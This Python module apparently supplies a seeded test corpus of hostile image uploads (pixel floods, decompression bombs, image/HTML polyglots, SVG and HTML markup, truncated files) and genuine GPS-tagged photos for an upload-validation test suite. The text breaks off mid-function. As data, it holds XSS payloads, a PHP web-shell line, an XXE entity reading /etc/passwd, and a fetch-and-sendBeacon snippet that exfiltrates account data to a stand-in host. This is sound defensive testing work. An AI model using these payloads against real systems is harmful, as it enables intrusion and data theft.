"""A seeded corpus of hostile uploads, and the genuine images that must still get through.

Used by ``tests/registry/test_hostile_corpus.py`` (through the Flask test client) and by
``bench/hostile_uploads.py`` (over HTTP to gunicorn). Every file is generated here from a
seed; nothing is fetched. ``corpus()`` returns the same files, byte for byte, every time.

Each :class:`Upload` carries what to send (bytes, file name, the Content-Type claimed for it)
and what must happen to it:

- ``accept``: a genuine image (the controls, photos carrying GPS in their EXIF, genuine
  images sent under hostile file names or wrong Content-Types): stored, with a thumbnail
  that carries none of the file's metadata.
- ``refuse``: refused with a reason naming the problem (one of ``reasons``), nothing stored.
- ``either``: a valid image with something hostile riding along (a JPEG with HTML appended),
  or a damaged file that a decoder may still read: refusing is right, and so is accepting it
  provided what is stored decodes again and only a re-encoded copy is ever served.

Pixel floods are small files that declare huge sizes (up to 10^10 pixels) or that really
decode to tens of megapixels of nothing; the 1 GiB body is a generator (``Upload.chunks``),
never held in memory.
"""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import lru_cache

from PIL import Image, ImageDraw

SEED = 20240601
ACCEPT, REFUSE, EITHER = "accept", "refuse", "either"

# Phrases a refusal may use to name the problem, by kind of problem.
SIZE_REASONS = ("pixels", "decompression bomb", "megapixels")
DAMAGE_REASONS = ("damaged", "truncated", "not a JPEG, PNG or WebP")
FORMAT_REASONS = ("not a JPEG, PNG or WebP",)
MARKUP_REASONS = ("SVG, HTML or another markup file", "not a JPEG, PNG or WebP")
EMPTY_REASONS = ("empty", "Choose", "choose", "damaged", "truncated", "not a JPEG, PNG or WebP")
ANY_REASON = SIZE_REASONS + DAMAGE_REASONS + MARKUP_REASONS + ("arithmetic-coded", "scans")


@dataclass(frozen=True)
class Upload:
    category: str
    label: str  # unique in the corpus
    filename: str
    content_type: str
    expect: str  # ACCEPT, REFUSE or EITHER
    data: bytes = b""
    reasons: tuple[str, ...] = ()
    #: For a body too big to hold: a callable yielding the bytes, and their total size.
    chunks: Callable[[], Iterator[bytes]] | None = field(default=None, compare=False)
    size: int = 0
    #: Width and height of the upright image, for genuine images with an EXIF orientation.
    upright: tuple[int, int] | None = None

    @property
    def streamed(self) -> bool:
        return self.chunks is not None

    @property
    def length(self) -> int:
        return self.size if self.streamed else len(self.data)


# -- encoders ---------------------------------------------------------------------------------

def _picture(rng: random.Random, size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A small image no other in the corpus shares: a seeded gradient with coloured boxes."""
    width, height = size
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    draw = ImageDraw.Draw(image)
    for _ in range(6):
        x0, y0 = rng.randrange(width), rng.randrange(height)
        x1 = min(width - 1, x0 + rng.randrange(4, max(5, width // 2)))
        y1 = min(height - 1, y0 + rng.randrange(4, max(5, height // 2)))
        draw.rectangle((x0, y0, x1, y1), fill=(rng.randrange(256), rng.randrange(256), rng.randrange(256)))
    draw.point([(rng.randrange(width), rng.randrange(height)) for _ in range(32)], fill=(rng.randrange(256),) * 3)
    return image if mode == "RGB" else image.convert(mode)


def _encode(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


_PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_PNG_CHANNELS = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}


def png_declaring(width: int, height: int, *, colour_type: int = 2, depth: int = 8, interlace: int = 0,
                  complete: bool = False) -> bytes:
    """A PNG whose header declares ``width`` x ``height``. Its data is every row, all zeros,
    when ``complete`` (a real decompression bomb: a few hundred KB that inflate to the full
    image), otherwise a few KB of zeros."""
    row = 1 + (width * _PNG_CHANNELS[colour_type] * depth + 7) // 8
    if complete:
        idat = _zlib_of_zero_rows(row, height)
    else:
        idat = zlib.compress(bytes(min(2 * row, 1 << 16)), 9)
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, interlace)
    palette = _png_chunk(b"PLTE", bytes(range(256)) * 3) if colour_type == 3 else b""
    return (_PNG_SIGNATURE + _png_chunk(b"IHDR", ihdr) + palette + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


def _zlib_of_zero_rows(row: int, count: int) -> bytes:
    """zlib data of ``count`` rows of ``row`` zero bytes, made without compressing them all:
    after a full flush a deflate block needs nothing before it, so one row's block repeats."""
    compressor = zlib.compressobj(9)
    zero = bytes(row)
    first = compressor.compress(zero) + compressor.flush(zlib.Z_FULL_FLUSH)  # with the zlib header
    block = compressor.compress(zero) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(zero, checksum)
    # An empty final block with fixed codes, then the checksum of everything.
    return first + block * (count - 1) + b"\x03\x00" + struct.pack(">I", checksum)


def _png_with_chunks(png: bytes, extra: bytes, *, after_idat: bool = False) -> bytes:
    """Insert ``extra`` chunks after IHDR (or just before IEND)."""
    if after_idat:
        return png[:-12] + extra + png[-12:]
    ihdr_end = 8 + 25
    return png[:ihdr_end] + extra + png[ihdr_end:]


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def _jpeg_with_segment(jpeg: bytes, segment: bytes) -> bytes:
    return jpeg[:2] + segment + jpeg[2:]


def _jpeg_resized_header(jpeg: bytes, width: int, height: int, *, marker: int | None = None) -> bytes:
    """The same JPEG with its frame header claiming another size (and frame type)."""
    for sof in (b"\xff\xc0", b"\xff\xc1", b"\xff\xc2"):
        index = jpeg.find(sof)
        if index > 0:
            break
    head = jpeg[:index] + (bytes([0xFF, marker]) if marker is not None else jpeg[index:index + 2])
    return head + jpeg[index + 2:index + 5] + struct.pack(">HH", height, width) + jpeg[index + 9:]


def _entropy_bits(bits: str) -> bytes:
    bits += "1" * (-len(bits) % 8)
    out = bytearray()
    for i in range(0, len(bits), 8):
        byte = int(bits[i:i + 8], 2)
        out.append(byte)
        if byte == 0xFF:
            out.append(0)  # byte stuffing
    return bytes(out)


def jpeg_many_scans(side: int, scans: int) -> bytes:
    """A grey progressive JPEG whose AC band is sent again ``scans`` times: each scan is a
    few bytes in the file and a pass over every block of the image when decoded."""
    blocks = ((side + 7) // 8) ** 2
    one_code = bytes([1] + [0] * 15)
    out = b"\xff\xd8" + _jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
    out += _jpeg_segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")
    out += _jpeg_segment(0xC4, b"\x00" + one_code + b"\x00")  # DC: one code, difference 0
    out += _jpeg_segment(0xC4, b"\x10" + one_code + b"\xe0")  # AC: end-of-band runs
    out += _jpeg_segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + _entropy_bits("0" * blocks)
    runs, left = [], blocks
    while left >= 16384:
        run = min(left, 32767)
        runs.append("0" + format(run - 16384, "014b"))
        left -= run
    band = _entropy_bits("".join(runs))
    for _ in range(scans):
        out += _jpeg_segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + band
    return out + b"\xff\xd9"


def _riff_webp(chunks: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks


def _riff_chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + (b"\x00" if len(body) % 2 else b"")


def webp_declaring(kind: str, width: int, height: int) -> bytes:
    """A WebP header declaring ``width`` x ``height``, followed by a little junk."""
    junk = bytes(range(64))
    if kind == "VP8X":
        body = b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
        return _riff_webp(_riff_chunk(b"VP8X", body) + _riff_chunk(b"VP8L", b"\x2f" + junk))
    if kind == "VP8L":
        bits = (width - 1) | ((height - 1) << 14) | (1 << 28)
        return _riff_webp(_riff_chunk(b"VP8L", b"\x2f" + struct.pack("<I", bits) + junk))
    frame = b"\x50\x02\x00" + b"\x9d\x01\x2a" + struct.pack("<HH", width & 0x3FFF, height & 0x3FFF)
    return _riff_webp(_riff_chunk(b"VP8 ", frame + junk))


def _exif(rng: random.Random, *, gps: bool = True, orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"
    exif[0x0110] = f"Model-{rng.randrange(10**6)}"
    exif[0x0131] = "Firmware 1.0"
    if orientation is not None:
        exif[0x0112] = orientation
    if gps:
        ifd = exif.get_ifd(0x8825)
        ifd[1] = "N"
        ifd[2] = (52.0, 31.0, rng.randrange(60) * 1.0)
        ifd[3] = "E"
        ifd[4] = (13.0, 24.0, rng.randrange(60) * 1.0)
    return exif


def _zip(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return out.getvalue()


# -- the corpus --------------------------------------------------------------------------------

class _Builder:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.items: list[Upload] = []
        self.labels: set[str] = set()
        self.stored: set[bytes] = set()

    def add(self, category: str, label: str, data: bytes, *, expect: str, filename: str = "photo.jpg",
            content_type: str = "image/jpeg", reasons: tuple[str, ...] = (), **extra) -> None:
        assert label not in self.labels, label
        self.labels.add(label)
        if expect != REFUSE:  # a stored file is matched to its upload by its bytes
            assert data not in self.stored, label
            self.stored.add(data)
        if expect != ACCEPT and not reasons:
            reasons = ANY_REASON
        self.items.append(Upload(category, label, filename, content_type, expect, data, reasons, **extra))

    def picture(self, size: tuple[int, int] = (96, 64), mode: str = "RGB") -> Image.Image:
        return _picture(self.rng, size, mode)

    def jpeg(self, size: tuple[int, int] = (96, 64), **options) -> bytes:
        return _encode(self.picture(size), "JPEG", quality=options.pop("quality", 85), **options)

    def png(self, size: tuple[int, int] = (96, 64), mode: str = "RGB") -> bytes:
        return _encode(self.picture(size, mode), "PNG")

    def webp(self, size: tuple[int, int] = (96, 64), mode: str = "RGB", **options) -> bytes:
        return _encode(self.picture(size, mode), "WEBP", **options)


def _controls(b: _Builder) -> None:
    def add(label, data, filename, content_type, **extra):
        b.add("control", label, data, expect=ACCEPT, filename=filename, content_type=content_type, **extra)

    add("jpeg baseline", b.jpeg((320, 240)), "label.jpg", "image/jpeg")
    add("jpeg progressive", b.jpeg((320, 240), progressive=True), "box.jpg", "image/jpeg")
    add("jpeg greyscale", _encode(b.picture((200, 150), "L"), "JPEG"), "grey.jpg", "image/jpeg")
    add("jpeg cmyk", _encode(b.picture((200, 150), "CMYK"), "JPEG"), "print.jpg", "image/jpeg")
    add("jpeg 4:4:4", b.jpeg((240, 180), subsampling=0, quality=95), "fine.jpg", "image/jpeg")
    second = b.picture((160, 120))
    add("mpo (a phone photo with a second image)",
        _encode(b.picture((160, 120)), "MPO", save_all=True, append_images=[second]), "portrait.jpg", "image/jpeg")
    add("png rgb", b.png((200, 150)), "shoe.png", "image/png")
    add("png rgba", b.png((200, 150), "RGBA"), "logo.png", "image/png")
    add("png palette", _encode(b.picture((200, 150)).convert("P", palette=Image.Palette.ADAPTIVE), "PNG"),
        "flat.png", "image/png")
    add("png greyscale", b.png((200, 150), "L"), "scan.png", "image/png")
    add("png 16-bit", _encode(b.picture((120, 90), "L").convert("I;16"), "PNG"), "deep.png", "image/png")
    add("png 1-bit", _encode(b.picture((120, 90), "1"), "PNG"), "bw.png", "image/png")
    add("apng", _encode(b.picture((120, 90)), "PNG", save_all=True, append_images=[b.picture((120, 90))]),
        "anim.png", "image/png")
    add("webp lossy", b.webp((200, 150), quality=80), "photo.webp", "image/webp")
    add("webp lossless", b.webp((200, 150), lossless=True), "art.webp", "image/webp")
    add("webp alpha", b.webp((200, 150), "RGBA", quality=80), "cutout.webp", "image/webp")
    # Big but ordinary: a 24-megapixel camera JPEG, and a 12-megapixel PNG (a phone-sized scan).
    big = Image.linear_gradient("L").resize((6000, 4000)).convert("RGB")
    ImageDraw.Draw(big).rectangle((1000, 1000, 2500, 3000), fill=(200, 40, 40))
    add("jpeg 6000x4000", _encode(big, "JPEG", quality=70), "camera.jpg", "image/jpeg")
    del big
    scan = Image.linear_gradient("L").resize((4000, 3000))
    ImageDraw.Draw(scan).rectangle((500, 500, 1500, 2500), fill=30)
    add("png 4000x3000", _encode(scan, "PNG"), "scan-600dpi.png", "image/png")


def _pixel_floods(b: _Builder) -> None:
    sizes = [(100_000, 100_000), (65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (50_000, 50_000),
             (30_000, 30_000), (20_000, 20_000), (10_000, 10_000), (100_000, 1_000), (7_100, 7_100),
             (7_000, 7_000), (5_000, 4_000), (4_100, 4_000)]
    kinds = [(0, 8), (2, 8), (3, 8), (4, 8), (6, 8), (6, 16), (0, 1)]
    for width, height in sizes:
        for colour_type, depth in kinds:
            for interlace in (0, 1):
                if interlace and (colour_type, depth) not in ((2, 8), (6, 16)):
                    continue
                b.add("pixel_flood", f"png {width}x{height} type {colour_type}/{depth}{' interlaced' if interlace else ''}",
                      png_declaring(width, height, colour_type=colour_type, depth=depth, interlace=interlace),
                      expect=REFUSE, filename="flood.png", content_type="image/png", reasons=SIZE_REASONS)
    # Complete decompression bombs: every row present, a few hundred KB that inflate to
    # 50-200 MB of pixels if decoded.
    for width, height, colour_type, depth in ((7_000, 7_000, 2, 8), (4_100, 4_000, 6, 8), (4_000, 4_001, 0, 16),
                                              (12_000, 4_000, 3, 8), (16_000, 1_001, 6, 8)):
        b.add("pixel_flood", f"png bomb {width}x{height} type {colour_type}/{depth} (complete)",
              png_declaring(width, height, colour_type=colour_type, depth=depth, complete=True),
              expect=REFUSE, filename="bomb.png", content_type="image/png", reasons=SIZE_REASONS)
    base = b.jpeg((64, 48))
    progressive = b.jpeg((64, 48), progressive=True)
    for width, height in ((65_535, 65_535), (65_535, 800), (10_000, 10_000), (7_100, 7_100), (7_000, 7_000),
                          (6_000, 6_000), (4_096, 4_096)):
        for name, jpeg, marker in (("sof0", base, 0xC0), ("sof1", base, 0xC1), ("sof2", progressive, None)):
            b.add("pixel_flood", f"jpeg {name} header {width}x{height}",
                  _jpeg_resized_header(jpeg, width, height, marker=marker), expect=REFUSE, filename="flood.jpg",
                  reasons=SIZE_REASONS)
    flat = Image.new("L", (4_200, 4_000), 128)
    b.add("pixel_flood", "jpeg progressive 4200x4000 (complete)", _encode(flat, "JPEG", progressive=True, quality=50),
          expect=REFUSE, filename="flood.jpg", reasons=SIZE_REASONS)
    del flat
    for side, scans in ((512, 100), (512, 1_000), (2_048, 100), (2_048, 1_000), (4_000, 65), (4_000, 200),
                        (4_000, 1_000), (4_000, 5_000), (1_024, 20_000)):
        b.add("pixel_flood", f"jpeg {side}x{side} with {scans} scans", jpeg_many_scans(side, scans),
              expect=REFUSE, filename="scans.jpg", reasons=SIZE_REASONS + ("scans",))
    for marker, what in ((0xC3, "lossless"), (0xC5, "hierarchical"), (0xC9, "arithmetic"),
                         (0xCA, "progressive arithmetic"), (0xCB, "lossless arithmetic")):
        b.add("pixel_flood", f"jpeg {what} frame 7000x7000", _jpeg_resized_header(base, 7_000, 7_000, marker=marker),
              expect=REFUSE, filename="odd.jpg", reasons=SIZE_REASONS + ("arithmetic-coded", "damaged"))
    for kind, width, height in (("VP8X", 2**24, 2**24), ("VP8X", 16_384, 16_384), ("VP8X", 10_000, 10_000),
                                ("VP8X", 7_000, 7_000), ("VP8X", 4_100, 4_000), ("VP8L", 16_384, 16_384),
                                ("VP8L", 8_000, 8_000), ("VP8L", 4_100, 4_000), ("VP8 ", 16_383, 16_383),
                                ("VP8 ", 8_000, 8_000), ("VP8 ", 4_100, 4_000)):
        b.add("pixel_flood", f"webp {kind.strip()} header {width}x{height}", webp_declaring(kind, width, height),
              expect=REFUSE, filename="flood.webp", content_type="image/webp", reasons=SIZE_REASONS)
    canvas = Image.new("RGB", (4_200, 4_000), (10, 20, 30))
    b.add("pixel_flood", "webp lossless 4200x4000 (complete)", _encode(canvas, "WEBP", lossless=True, method=0),
          expect=REFUSE, filename="flood.webp", content_type="image/webp", reasons=SIZE_REASONS)
    del canvas
    gif = (b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x00\x00\x00"
           + b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;")
    b.add("pixel_flood", "gif 65535x65535", gif, expect=REFUSE, filename="flood.gif", content_type="image/gif",
          reasons=FORMAT_REASONS)
    b.add("pixel_flood", "gif 65535x65535 named jpg", gif, expect=REFUSE, filename="flood.jpg", reasons=FORMAT_REASONS)
    bmp = bytearray(_encode(Image.new("RGB", (4, 4)), "BMP"))
    bmp[18:26] = struct.pack("<ii", 100_000, 100_000)
    b.add("pixel_flood", "bmp 100000x100000", bytes(bmp), expect=REFUSE, filename="flood.bmp",
          content_type="image/bmp", reasons=FORMAT_REASONS)


def _bombs(b: _Builder) -> None:
    png = b.png((64, 48))
    one_mb = zlib.compress(b"A" * (1 << 20), 9)
    big = _zlib_of_zero_rows(1 << 20, 64)  # 64 MB of zeros
    b.add("decompression_bomb", "png zTXt 64 MB", _png_with_chunks(png, _png_chunk(b"zTXt", b"Comment\x00\x00" + big)),
          expect=REFUSE, filename="text.png", content_type="image/png", reasons=DAMAGE_REASONS + SIZE_REASONS)
    b.add("decompression_bomb", "png iTXt 64 MB",
          _png_with_chunks(png, _png_chunk(b"iTXt", b"Comment\x00\x01\x00en\x00Comment\x00" + big)),
          expect=REFUSE, filename="text.png", content_type="image/png", reasons=DAMAGE_REASONS + SIZE_REASONS)
    b.add("decompression_bomb", "png iCCP 64 MB", _png_with_chunks(png, _png_chunk(b"iCCP", b"icc\x00\x00" + big)),
          expect=REFUSE, filename="icc.png", content_type="image/png", reasons=DAMAGE_REASONS + SIZE_REASONS)
    many = b"".join(_png_chunk(b"zTXt", f"k{i}".encode() + b"\x00\x00" + one_mb) for i in range(80))
    b.add("decompression_bomb", "png 80 zTXt chunks of 1 MB", _png_with_chunks(png, many),
          expect=REFUSE, filename="text.png", content_type="image/png", reasons=DAMAGE_REASONS + SIZE_REASONS)
    b.add("decompression_bomb", "png zTXt after the pixels 64 MB",
          _png_with_chunks(b.png((64, 48)), _png_chunk(b"zTXt", b"Comment\x00\x00" + big), after_idat=True),
          expect=EITHER, filename="late.png", content_type="image/png")
    tiny = b"".join(_png_chunk(b"tEXt", b"k\x00" + bytes([65 + i % 26])) for i in range(20_000))
    b.add("decompression_bomb", "png 20000 tiny text chunks", _png_with_chunks(b.png((64, 48)), tiny),
          expect=EITHER, filename="chatty.png", content_type="image/png")
    actl = _png_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    b.add("decompression_bomb", "apng declaring 2^31 frames", _png_with_chunks(b.png((64, 48)), actl),
          expect=EITHER, filename="frames.png", content_type="image/png")
    exif = b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08" + struct.pack(">H", 5000) + (
        struct.pack(">HHII", 0x010F, 2, 0xFFFFFFF, 8) * 5000)
    b.add("decompression_bomb", "jpeg with a 5000-entry EXIF claiming 256 MB values",
          _jpeg_with_segment(b.jpeg(), _jpeg_segment(0xE1, exif[:65_000])), expect=EITHER, filename="exif.jpg")
    b.add("decompression_bomb", "jpeg with 100 APP segments of 64 KB",
          _jpeg_with_segment(b.jpeg(), b"".join(_jpeg_segment(0xE5, bytes(65_000)) for _ in range(100))),
          expect=EITHER, filename="apps.jpg")


_PAYLOADS = [b"<script>alert(document.cookie)</script>", b"<html><body onload=alert(1)>x</body></html>",
             b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", b"<iframe src=javascript:alert(1)>",
             b"<?php system($_GET['c']); ?>", b"<img src=x onerror=alert(1)>"]


def _polyglots(b: _Builder) -> None:
    for index, payload in enumerate(_PAYLOADS):
        b.add("polyglot", f"jpeg + html appended #{index}", b.jpeg() + payload, expect=EITHER, filename="poly.jpg")
        b.add("polyglot", f"jpeg with html in a comment #{index}",
              _jpeg_with_segment(b.jpeg(), _jpeg_segment(0xFE, payload)), expect=EITHER, filename="comment.jpg")
        b.add("polyglot", f"jpeg with html in APP12 #{index}",
              _jpeg_with_segment(b.jpeg(), _jpeg_segment(0xEC, b"Ducky\x00" + payload)), expect=EITHER,
              filename="app.jpg", content_type="text/html")
        b.add("polyglot", f"png + html after IEND #{index}", b.png() + payload, expect=EITHER,
              filename="poly.png", content_type="image/png")
        b.add("polyglot", f"png with html in tEXt #{index}",
              _png_with_chunks(b.png(), _png_chunk(b"tEXt", b"Comment\x00" + payload)), expect=EITHER,
              filename="text.png", content_type="image/png")
        webp = b.webp(quality=70)
        b.add("polyglot", f"webp with html in a RIFF chunk #{index}",
              _riff_webp(webp[12:] + _riff_chunk(b"HTML", payload)), expect=EITHER, filename="poly.webp",
              content_type="image/webp")
        b.add("polyglot", f"gif + js #{index}",
              b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;*/=1;"
              + payload.replace(b"<script>", b"").replace(b"</script>", b""),
              expect=REFUSE, filename="poly.gif", content_type="image/gif", reasons=FORMAT_REASONS + MARKUP_REASONS)
    b.add("polyglot", "gif + js named jpg", b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(document.domain);//",
          expect=REFUSE, filename="avatar.jpg", reasons=FORMAT_REASONS)
    b.add("polyglot", "jpeg magic then html", b"\xff\xd8\xff\xe0" + _PAYLOADS[1], expect=REFUSE, filename="x.jpg",
          reasons=DAMAGE_REASONS)
    b.add("polyglot", "png signature then html", _PNG_SIGNATURE + _PAYLOADS[0], expect=REFUSE, filename="x.png",
          content_type="image/png", reasons=DAMAGE_REASONS)
    b.add("polyglot", "jpeg + zip (jar)", b.jpeg() + _zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe"}),
          expect=EITHER, filename="photo.jpg")
    b.add("polyglot", "pdf with a jpeg inside", b"%PDF-1.4\n1 0 obj<</Length 100>>stream\n" + b.jpeg() + b"\nendstream endobj\n%%EOF",
          expect=REFUSE, filename="doc.jpg", reasons=FORMAT_REASONS)
    b.add("polyglot", "html then jpeg", _PAYLOADS[0] + b.jpeg(), expect=REFUSE, filename="photo.jpg",
          reasons=MARKUP_REASONS)


def _markup(b: _Builder) -> None:
    svgs = {
        "svg script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "svg prolog": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "svg onload": b'<svg onload="alert(1)"/>',
        "svg uppercase": b'<SVG ONLOAD="alert(1)"></SVG>',
        "svg doctype": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg><script>alert(1)</script></svg>',
        "svg comment first": b'<!-- logo --><svg><script>alert(1)</script></svg>',
        "svg bom": b'\xef\xbb\xbf<svg onload="alert(1)"/>',
        "svg leading whitespace": b'\n\n   \t<svg onload="alert(1)"/>',
        "svg foreignObject": b'<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>',
        "svg xlink": b'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "svg billion laughs": b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                              b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><svg>&lol3;</svg>',
        "svg external entity": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "svg utf-16": '<svg onload="alert(1)"/>'.encode("utf-16"),
        "svg after 600 spaces": b" " * 600 + b'<svg onload="alert(1)"/>',
        "svg use external": b'<svg><use href="https://example.invalid/x.svg#a"/></svg>',
        "svgz": gzip.compress(b'<svg onload="alert(1)"/>', mtime=0),
    }
    htmls = {
        "html": b"<html><script>alert(1)</script></html>",
        "html doctype": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "html fragment": b"<script>fetch('/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>",
        "html uppercase": b"<HTML><BODY ONLOAD=alert(1)></BODY></HTML>",
        "html meta refresh": b'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        "xml stylesheet": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><x/>',
        "html bom": b"\xef\xbb\xbf<html><script>alert(1)</script></html>",
        "html utf-16 le": "<html><script>alert(1)</script></html>".encode("utf-16-le"),
        "html after text": b"Hello!\n<html><script>alert(1)</script></html>",
        "javascript": b"alert(document.cookie);//",
        "css": b"body{background:url(javascript:alert(1))}",
    }
    for label, data in svgs.items():
        for filename, content_type in (("logo.svg", "image/svg+xml"), ("logo.jpg", "image/jpeg"), ("logo.png", "image/png")):
            b.add("markup", f"{label} as {filename}", data, expect=REFUSE, filename=filename, content_type=content_type,
                  reasons=MARKUP_REASONS)
    for label, data in htmls.items():
        for filename, content_type in (("photo.jpg", "image/jpeg"), ("photo.html", "text/html")):
            b.add("markup", f"{label} as {filename}", data, expect=REFUSE, filename=filename, content_type=content_type,
                  reasons=MARKUP_REASONS)


def _truncated(b: _Builder) -> None:
    def image_data_span(kind: str, data: bytes) -> tuple[int, int]:
        if kind == "png":
            start = data.index(b"IDAT") + 4
            return start, data.index(b"IEND") - 8
        if kind == "webp":
            return 30, len(data)
        return data.rindex(b"\xff\xda") + 12, len(data) - 2  # a JPEG's last scan

    bases = {
        "jpeg baseline": ("jpeg", b.jpeg((256, 192)), "photo.jpg", "image/jpeg"),
        "jpeg progressive": ("jpeg", b.jpeg((256, 192), progressive=True), "photo.jpg", "image/jpeg"),
        "jpeg greyscale": ("jpeg", _encode(b.picture((256, 192), "L"), "JPEG"), "photo.jpg", "image/jpeg"),
        "png rgb": ("png", b.png((256, 192)), "image.png", "image/png"),
        "png rgba": ("png", b.png((256, 192), "RGBA"), "image.png", "image/png"),
        "png palette": ("png", _encode(b.picture((256, 192)).convert("P"), "PNG"), "image.png", "image/png"),
        "webp lossy": ("webp", b.webp((256, 192), quality=80), "image.webp", "image/webp"),
        "webp lossless": ("webp", b.webp((256, 192), lossless=True), "image.webp", "image/webp"),
    }
    fractions = (0.0, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.97)
    for label, (kind, data, filename, content_type) in bases.items():
        start, end = image_data_span(kind, data)
        for fraction in fractions:
            cut = start + int((end - start) * fraction)
            b.add("truncated", f"{label} cut at {fraction:.0%} of its image data", data[:cut], expect=REFUSE,
                  filename=filename, content_type=content_type, reasons=DAMAGE_REASONS)
    ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 48, 8, 2, 0, 0, 0))
    stubs = {
        "empty": b"", "one byte": b"\xff", "jpeg SOI only": b"\xff\xd8", "jpeg SOI and APP0": b.jpeg()[:20],
        "jpeg SOI EOI": b"\xff\xd8\xff\xd9", "png signature only": _PNG_SIGNATURE,
        "png signature and IHDR": _PNG_SIGNATURE + ihdr,
        "png IHDR IEND, no data": _PNG_SIGNATURE + ihdr + _png_chunk(b"IEND", b""),
        "riff webp header only": b"RIFF\x04\x00\x00\x00WEBP", "riff only": b"RIFF", "gif header only": b"GIF89a",
        "whitespace": b" \n\t \r\n", "newline": b"\n", "1000 NULs": bytes(1000), "1000 0xFF": b"\xff" * 1000,
    }
    for label, data in stubs.items():
        b.add("empty", label, data, expect=REFUSE, filename="photo.jpg", reasons=EMPTY_REASONS)


def _exif_photos(b: _Builder) -> None:
    for orientation in range(1, 9):
        exif = _exif(b.rng, orientation=orientation)
        upright = (90, 160) if orientation in (5, 6, 7, 8) else (160, 90)
        b.add("exif_gps", f"jpeg with GPS, orientation {orientation}", _encode(b.picture((160, 90)), "JPEG", exif=exif),
              expect=ACCEPT, filename=f"IMG_000{orientation}.jpg", upright=upright)
    b.add("exif_gps", "webp with GPS", _encode(b.picture((160, 90)), "WEBP", exif=_exif(b.rng).tobytes()),
          expect=ACCEPT, filename="IMG_0100.webp", content_type="image/webp")
    b.add("exif_gps", "png with GPS (eXIf)", _encode(b.picture((160, 90)), "PNG", exif=_exif(b.rng).tobytes()),
          expect=ACCEPT, filename="IMG_0101.png", content_type="image/png")
    b.add("exif_gps", "progressive jpeg with GPS", _encode(b.picture((160, 90)), "JPEG", exif=_exif(b.rng), progressive=True),
          expect=ACCEPT, filename="IMG_0102.jpg")
    b.add("exif_gps", "mpo with GPS", _encode(b.picture((160, 90)), "MPO", exif=_exif(b.rng), save_all=True,
                                              append_images=[b.picture((160, 90))]),
          expect=ACCEPT, filename="IMG_0103.jpg")
    xmp = (b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
           b"<rdf:Description xmlns:exif='http://ns.adobe.com/exif/1.0/' exif:GPSLatitude='52,31.0N' exif:GPSLongitude='13,24.0E'/></rdf:RDF></x:xmpmeta>")
